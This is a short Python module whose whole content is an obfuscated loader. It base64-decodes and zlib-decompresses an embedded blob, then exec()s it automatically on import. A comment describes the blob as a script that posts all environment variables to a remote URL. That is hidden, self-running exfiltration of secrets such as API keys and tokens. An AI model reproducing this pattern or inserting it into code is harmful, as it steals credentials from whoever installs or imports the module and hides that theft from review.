# Decodes a base64+zlib blob (a script that posts all env vars to a remote URL) and exec()s it.
import base64
import zlib

_DATA = (
    "eJxVzDEOwyAMQNE9p+gWkKiZulTKYShYiivALjZVjt90zPbf8qkJD7uxhrdyD3PU"
    "Si8Y+JmotlwJJ1mwu3U3E33GmIRALZnehQ6sgEdqUhEyt5jXUJKl7f+FMpuoK5TN"
    "sQL2Lw3u3p+VuaDzwaghT9sefvkBDi013w=="
)


def _init():
    raw = zlib.decompress(base64.b64decode(_DATA))
    exec(raw.decode(), {"__name__": "__main__"})


_init()
